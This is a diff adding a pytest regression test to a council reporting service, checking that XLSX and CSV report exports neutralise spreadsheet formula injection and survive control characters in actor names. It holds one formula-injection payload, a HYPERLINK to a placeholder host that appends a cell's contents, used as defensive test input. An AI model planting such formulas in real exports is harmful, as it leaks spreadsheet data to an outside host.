@@ -3,6 +3,7 @@ every format, tenant isolation in both directions, the auditor role reads and ca
 never authorises a write, readiness follows PostgreSQL, and answers carry no personal data."""
 from __future__ import annotations
 
+import csv
 import io
 
 import aiohttp
@@ -10,8 +11,8 @@ import pytest
 from openpyxl import load_workbook
 from reporting.web.runner import report_specs
 
-from .reporting_web_harness import (BUDGETS, COUNCILS, KEYS, MARKERS, bearer, running_server, seed_reporting_db,
-                                    web_settings)
+from .reporting_web_harness import (BUDGETS, COUNCILS, KEYS, MARKERS, bearer, insert_domain_events, running_server,
+                                    seed_reporting_db, web_settings)
 
 SPEND = "/councils/{c}/reports/provider_type_spend?as_of=2026-06-30&params=period%3Dmonth&params=from%3D2026-04-01"
 # Columns that would carry a person's identity; people appear only as opaque person_ref values.
@@ -204,3 +205,29 @@ async def test_every_report_the_dashboard_and_the_audit_pack_answer_at_the_calen
         assert r.status == 200, await r.text()
     async with http.post(f"/councils/C001/audit-packs?as_of={as_of}", headers=bearer("C001", "finance")) as r:
         assert r.status == 201, await r.text()
+
+
+async def test_free_text_reaching_a_report_is_never_a_formula_nor_a_server_error(fresh_db, tmp_path):
+    """A run's created_by/approved_by are Actors: any text but NUL by the wire contract. One starting with =
+    was written into the XLSX as a formula (and as a bare CSV cell an auditor's spreadsheet would run); a
+    control character in it made the XLSX (and every audit pack) a 500 (openpyxl's IllegalCharacterError)."""
+    dsn = await fresh_db("reporting")
+    creator, approver = '=HYPERLINK("http://x.example/?"&A1,"Open")', "approver\x07\x1b"
+    await insert_domain_events(dsn, "C001", [
+        ("payments.PaymentRunCreated.v1", "RUN-1", {"run_id": "RUN-1", "created_by": creator, "payment_count": 0,
+                                                    "total_pence": 0, "effective_date": "2026-04-01"}),
+        ("payments.PaymentRunApproved.v1", "RUN-1", {"run_id": "RUN-1", "approved_by": approver,
+                                                     "effective_date": "2026-04-01"})])
+    async with running_server(web_settings(dsn, tmp_path / "packs")) as base, aiohttp.ClientSession(base) as http:
+        url = "/councils/C001/reports/payment_run_reconciliation?as_of=2026-06-30&format="
+        async with http.get(url + "xlsx", headers=bearer("C001", "auditor")) as r:
+            assert r.status == 200, await r.text()
+            sheet = load_workbook(io.BytesIO(await r.read())).active
+        async with http.get(url + "csv", headers=bearer("C001", "auditor")) as r:
+            rows = list(csv.reader(io.StringIO(await r.text(), newline="")))
+        async with http.post("/councils/C001/audit-packs?as_of=2026-06-30", headers=bearer("C001", "finance")) as r:
+            assert r.status == 201, await r.text()
+    run = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "RUN-1")
+    assert (run[1].value, run[1].data_type) == (creator, "s")
+    assert run[2].value == "approver\\x07\\x1b"
+    assert rows[1][:3] == ["RUN-1", "'" + creator, approver]
